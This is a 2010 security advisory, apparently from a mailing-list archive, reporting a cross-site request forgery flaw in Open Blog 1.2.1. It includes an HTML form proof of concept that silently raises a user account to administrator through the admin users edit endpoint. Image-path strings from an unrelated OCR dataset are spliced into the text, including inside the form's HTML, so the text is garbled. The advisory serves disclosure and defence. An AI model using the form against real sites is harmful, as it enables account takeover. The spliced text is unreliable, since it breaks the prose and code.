[Date Prev][Date Next][Thread Prev][Thread Next][Date Index][Thread Index]

XSRF (CSRF) in Open blog

Vulnerability ID: HTB22496
Reference: http://www.htbridge.ch/advisory/xsrf_csrf_in_open_blog.html
Product: Open Blog
Vendor: TomaÅ Muraus ( http://www.open-blog.info/ )
Vulnerable Version: 1.2.1 and Probably Prior Versions
Vendor Notification: 22 July 2010
Vulnerability Type: CSRF (Cross-Site Request Forgery)
Status: Not Fixed, Vendor Alerted, Awaiting Vendor ResponseRisk level: Low
Credit: High-Tech Bridge SA - Ethical Hacking & Penetration Testing(http://www.htbridge.ch/)

Vulnerability Details:
The vulnerability exists due tofailure in the "/application/modules/admin/controllers/users.php" script to properly verify the source of HTTP request.

Successful exploitation of this vulnerability could result in a compromise of the application, theft of cookie-based authentication credentials, disclosure or modification of sensitive data.

Attacker can use browser to exploit this vulnerability. The following PoC is available:

<form action="http://host/admin/users/edit"; method="post" >
<input type="hidden" name="display_name" value="User" />
<input type="hidden" name="level" value="administrator" />
<input type="hidden" name="email" value="email@xxxxxxxxxxx" />
<input type="hidden" name="website" value="" />
<input type="hidden" name="msn_messenger" value="" />
<input type="hidden"name="jabber" value="" />
<input type="hidden" name="about_me" value="about_me" /><input type="hidden" name="id" value="2" />
<input type="submit" name="submit" id="sbmtit"value="Edit ››" />